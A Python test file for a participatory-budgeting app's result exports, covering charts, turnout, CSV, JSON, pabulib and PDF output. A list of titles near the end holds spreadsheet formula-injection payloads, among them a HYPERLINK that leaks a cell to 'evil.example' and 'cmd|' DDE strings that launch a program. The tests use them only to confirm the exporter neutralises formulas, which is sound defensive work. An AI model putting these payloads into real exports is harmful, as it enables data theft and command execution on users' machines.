"""The published record in every form, read from the stored count: chart numbers, CSV, JSON, pabulib and PDF."""

import csv
import hashlib
import io
from datetime import date

import pytest
from sqlalchemy import delete, select, update

from pb.domain.cycle import Phase
from pb.domain.errors import NotFound, PhaseError
from pb.domain.tally import pabulib, run_rule, seeded_tie_break
from pb.extensions import db
from pb.models import Ballot, Participation, Role, SealedBallot, TallyComparison, TallyRun
from pb.services import exports, tallying, voting
from tests.conftest import close_voting


@pytest.fixture
def published(make_cycle, make_project, make_user, verify):
    """North (1,000 EUR): big 600 EUR (3 votes), mid 500 EUR (2), small 300 EUR (1); South: one unvoted project."""

    def build(phase: Phase = Phase.RESULTS, rule: str = "greedy"):
        cycle = make_cycle(Phase.VOTING, rule=rule, tie_break_seed=3)
        north, south = cycle.districts
        big, mid, small = (make_project(cycle, north, cost=cost, title=title)
                           for cost, title in [(60_000, "big"), (50_000, "=mid"), (30_000, "small")])
        make_project(cycle, south, cost=10_000, title="south", category=None)
        for choice in [[big, small], [big], [big], [mid], [mid]]:
            resident = make_user()
            verify(resident, north)
            verify(make_user(), north)  # verified, never voted
            voting.cast_ballot(resident, cycle.id, north.id, [project.id for project in choice])
        close_voting(cycle)
        tallying.run_tally(make_user(Role.OFFICIAL), cycle.id)
        cycle.phase = phase
        db.session.commit()
        return cycle

    return build


def test_the_votes_chart_has_the_stored_votes_costs_and_funded_marks(published):
    cycle = published()
    north = cycle.districts[0]
    data = exports.votes_chart(cycle, north.id)
    assert data.labels == ("big", "small", "=mid")
    assert data.series == (("Votes", (3, 1, 2)), ("Cost", (60_000, 30_000, 50_000)))
    assert data.marks == (True, True, False) and data.limit == 100_000 and data.scale == 100
    assert data.rows[0] == ("big", "3", "600 EUR", "yes")
    assert "2 were funded, using 900 EUR of the budget of 1,000 EUR" in data.description


def test_the_budget_charts_split_the_funded_money_by_category_and_district(published):
    cycle = published()
    by_category = exports.budget_by_category_chart(cycle)
    assert by_category.labels == ("Green spaces",) and by_category.values("Funded") == (90_000,)
    assert by_category.rows == (("Green spaces", "900 EUR", "100.0 %"),)
    by_district = exports.budget_by_district_chart(cycle)
    assert by_district.labels == ("North", "South")
    assert by_district.series == (("Used", (90_000, 0)), ("Left", (10_000, 50_000)))


def test_turnout_counts_online_and_paper_voters_against_verified_residents(published, make_user):
    cycle = published()
    north = cycle.districts[0]
    db.session.add(Participation(user_id=make_user().id, cycle_id=cycle.id, district_id=north.id,
                                 channel="paper", voted_on=date(2026, 5, 2)))
    db.session.commit()
    data = exports.turnout_chart(cycle)
    assert data.series == (("Online", (5, 0)), ("Paper", (1, 0)), ("Verified residents", (10, 0)))
    assert data.rows[0] == ("North", "5", "1", "10", "60.0 %") and data.rows[1][-1] == "–"


def test_voters_per_day_count_when_people_voted_and_nothing_else(published):
    cycle = published()
    ids = db.session.scalars(select(SealedBallot.id).order_by(SealedBallot.id)).all()
    db.session.execute(update(SealedBallot).where(SealedBallot.id.in_(ids[:2])).values(sealed_on=date(2026, 5, 1)))
    db.session.execute(update(SealedBallot).where(SealedBallot.id.in_(ids[2:])).values(sealed_on=date(2026, 5, 3)))
    db.session.commit()
    assert exports.turnout_per_day(cycle) == [(date(2026, 5, 1), 2, 0), (date(2026, 5, 3), 3, 0)]
    data = exports.ballots_per_day_chart(cycle)
    assert data.labels == ("2026-05-01", "2026-05-03") and data.rows[1] == ("2026-05-03", "3", "0", "3")


@pytest.mark.parametrize("phase", [Phase.VOTING, Phase.TALLYING])
@pytest.mark.parametrize(
    "export",
    [
        lambda cycle: exports.votes_chart(cycle, cycle.districts[0].id),
        exports.budget_by_category_chart,
        exports.budget_by_district_chart,
        exports.results_csv,
        exports.results_json,
        exports.results_pdf,
        lambda cycle: exports.district_pabulib(cycle, cycle.districts[0].id),
        lambda cycle: exports.public_ballot_list(cycle, cycle.districts[0].id),
    ],
    ids=["votes", "category", "district", "csv", "json", "pdf", "pabulib", "ballots"],
)
def test_nothing_with_votes_leaves_before_publication(published, phase, export):
    with pytest.raises(PhaseError, match="Results are not published yet."):
        export(published(phase))


@pytest.mark.parametrize("phase", [Phase.VOTING, Phase.TALLYING, Phase.RESULTS, Phase.CLOSED])
def test_turnout_is_available_from_the_vote(published, phase):
    cycle = published(phase)
    assert exports.turnout_chart(cycle).values("Online") == (5, 0)
    assert sum(o for _, o, _ in exports.turnout_per_day(cycle)) == 5


def test_turnout_is_refused_before_the_vote(make_cycle):
    with pytest.raises(PhaseError, match="Turnout is shown once voting has opened."):
        exports.turnout_chart(make_cycle(Phase.REVIEW))


def test_unknown_districts_and_charts_are_not_found(published, make_cycle):
    cycle, other = published(), make_cycle(Phase.RESULTS)
    with pytest.raises(NotFound, match="There is no such district in this cycle."):
        exports.district_pabulib(cycle, other.districts[0].id)
    with pytest.raises(NotFound, match="There is no such district."):
        exports.votes_chart(cycle, 10**12)
    with pytest.raises(NotFound, match="There is no chart called 'pie'"):
        exports.cycle_chart(cycle, "pie")


def test_the_csv_opens_in_spreadsheets_and_runs_no_formula(published):
    text = exports.results_csv(published())
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == ["district", "project_id", "title", "category", "cost_EUR", "votes", "funded", "rule", "position",
                       "explanation"]
    assert [row[2] for row in rows[1:]] == ["big", "small", "'=mid", "south"]
    assert rows[4][3] == "" and rows[4][5] == "0"


def test_the_json_document_carries_rule_parameters_digest_and_the_side_by_side(published):
    cycle = published()
    document = exports.results_json(cycle)
    north = document["districts"][0]
    run = db.session.scalar(select(TallyRun).where(TallyRun.district_id == cycle.districts[0].id))
    assert document["cycle"]["tie_break_seed"] == 3 and document["cycle"]["minor_unit"] == 2
    assert (north["budget"], north["spent"], north["left"], north["ballots_counted"]) == (100_000, 90_000, 10_000, 5)
    assert north["turnout"] == {"online": 5, "paper": 0, "verified_residents": 10}
    assert north["parameters"] == {"tie_break": "cost-votes-lottery", "seed": "3"}
    assert north["ballot_list_sha256"] == run.ballot_list_sha256 and len(run.ballot_list_sha256) == 64
    assert [(p["title"], p["votes"], p["is_funded"]) for p in north["projects"]] == [
        ("big", 3, True), ("small", 1, True), ("=mid", 2, False)]
    assert [(c["rule"], c["is_official"]) for c in north["comparison"]] == [("greedy", True), ("mes-add1", False)]


def test_the_pabulib_file_holds_every_vote_and_reproduces_the_published_winners(published):
    cycle = published(rule="mes-add1")
    north = cycle.districts[0]
    election = pabulib.read(exports.district_pabulib(cycle, north.id))
    assert election.meta["budget"] == "100000" and election.meta["pb_rule"] == "mes-add1"
    assert election.meta["tie_break_seed"] == "3" and election.meta["num_votes"] == "5"
    stored = db.session.scalars(select(Ballot).where(Ballot.district_id == north.id))
    assert sorted(row["vote"] for row in election.votes) == sorted(
        ",".join(str(choice.project_id) for choice in ballot.choices) for ballot in stored)
    assert sorted(int(row["voter_id"]) for row in election.votes) == [1, 2, 3, 4, 5]
    outcome = run_rule("mes-add1", election.instance(), election.profile(), tie_break=seeded_tie_break(3))
    run = db.session.scalar(select(TallyRun).where(TallyRun.district_id == north.id))
    assert set(outcome.selected) == set(election.published_selection()) == {
        str(r.project_id) for r in run.results if r.is_funded}


def test_exports_change_nothing(published, snapshot):
    cycle = published()
    before = snapshot()
    exports.results_csv(cycle), exports.results_json(cycle), exports.results_pdf(cycle)
    exports.district_pabulib(cycle, cycle.districts[0].id), exports.public_ballot_list(cycle, cycle.districts[0].id)
    for kind in exports.PUBLIC_CHARTS:
        exports.cycle_chart(cycle, kind)
    assert snapshot() == before


def test_dropping_a_count_in_bulk_drops_its_comparison(published):
    # The paper service deletes a district's count with one DELETE when its sheets change after the count.
    cycle = published(Phase.TALLYING)
    assert db.session.query(TallyComparison).count() == 2
    db.session.execute(delete(TallyRun).where(TallyRun.district_id == cycle.districts[0].id))
    db.session.commit()
    assert [c.tally_run.district_id for c in db.session.scalars(select(TallyComparison))] == [cycle.districts[1].id]


# --- formulas in spreadsheets, and the recount's data left exact ---------------------------------------------------

FORMULA_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
    "＝1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
]


def _set_title(cycle, title):
    from pb.models import Proposal

    project = db.session.scalars(select(Proposal).where(Proposal.district_id == cycle.districts[0].id)
                                 .order_by(Proposal.estimated_cost.desc())).first()
    project.title = title
    db.session.commit()
    return project


@pytest.mark.parametrize("title", FORMULA_TITLES, ids=lambda title: title.encode("unicode_escape").decode()[:20])
def test_a_title_that_would_run_as_a_formula_is_neutralised_in_the_csv_and_exact_in_the_recount_data(published, title):
    cycle = published()
    north = cycle.districts[0]
    project = _set_title(cycle, title)

    rows = list(csv.reader(io.StringIO(exports.results_csv(cycle)[1:], newline="")))
    [row] = [row for row in rows[1:] if row[1] == str(project.id)]
    assert row[2] == "'" + title

    document = exports.results_json(cycle)
    assert [p["title"] for p in document["districts"][0]["projects"] if p["id"] == project.id] == [title]

    run = db.session.scalar(select(TallyRun).where(TallyRun.district_id == north.id))
    ballot_list = exports.public_ballot_list(cycle, north.id)
    assert hashlib.sha256(ballot_list).hexdigest() == run.ballot_list_sha256 == document["districts"][0]["ballot_list_sha256"]
    if title.strip() == title:  # pabulib's text format has no room for line breaks or edge spaces in a name
        names = {row["project_id"]: row["name"] for row in pabulib.read(exports.district_pabulib(cycle, north.id)).projects}
        assert names[str(project.id)] == title


@pytest.mark.parametrize("text", ["big", "1+1", "a=b", "Mid-town", "email@example.org", "", "'=already quoted"])
def test_ordinary_text_is_left_alone(text):
    assert exports.spreadsheet_cell(text) == text


def test_district_category_and_explanation_cells_are_neutralised_too(make_cycle, make_project, make_user, verify):
    from pb.models import Category

    cycle = make_cycle(Phase.VOTING, districts=(("=North", 100_000),))
    [north] = cycle.districts
    project = make_project(cycle, north, cost=10_000, title="Benches")
    db.session.scalars(select(Category).where(Category.cycle_id == cycle.id)).one().name = "＠Parks"
    db.session.commit()
    resident = make_user()
    verify(resident, north)
    voting.cast_ballot(resident, cycle.id, north.id, [project.id])
    close_voting(cycle)
    tallying.run_tally(make_user(Role.OFFICIAL), cycle.id)
    cycle.phase = Phase.RESULTS
    db.session.commit()
    from pb.models import ProjectResult

    db.session.execute(update(ProjectResult).values(explanation="-funded first"))
    db.session.commit()
    [_, row] = list(csv.reader(io.StringIO(exports.results_csv(cycle)[1:])))
    assert (row[0], row[3], row[9]) == ("'=North", "'＠Parks", "'-funded first")
    assert exports.results_json(cycle)["districts"][0]["name"] == "=North"


# The proposals of a cycle as CSV ---------------------------------------------------------------------------


def test_the_proposals_csv_is_valid_plain_and_names_no_author(make_cycle, make_proposal, make_user):
    from pb.models import ProposalStatus

    cycle = make_cycle(currency="PLN")
    author = make_user(name="Secret Author", email="author@example.org")
    make_proposal(cycle, title='Benches, "good" ones\nby the river', author=author, estimated_cost=125_050)
    make_proposal(cycle, cycle.districts[1], title="Lamps", status=ProposalStatus.ACCEPTED, final_cost=1_234_567,
                  category=None)
    body = exports.proposals_csv(cycle)
    assert body.startswith("\ufeff") and "author@example.org" not in body and "Secret Author" not in body
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["id", "title", "district", "category", "status", "status_label", "estimated_cost_PLN",
                       "final_cost_PLN", "submitted_on"]
    assert [row[1:8] for row in rows[1:]] == [
        ['Benches, "good" ones\nby the river', "North", "Green spaces", "submitted", "Waiting for review", "1250.50", ""],
        ["Lamps", "South", "", "accepted", "Accepted: on the ballot", "100", "12345.67"],
    ]


@pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil\")", "+1+1", "-2", "@SUM(A1)", "  =1", "\uff1d1"])
def test_the_proposals_csv_disarms_spreadsheet_formulas(make_cycle, make_proposal, title):
    cycle = make_cycle()
    district = cycle.districts[0]
    district.name = "=cmd|' /C calc'!A0"
    db.session.commit()
    make_proposal(cycle, title=title)
    rows = list(csv.reader(io.StringIO(exports.proposals_csv(cycle).lstrip("\ufeff"))))
    assert rows[1][1] == "'" + title and rows[1][2].startswith("'=")
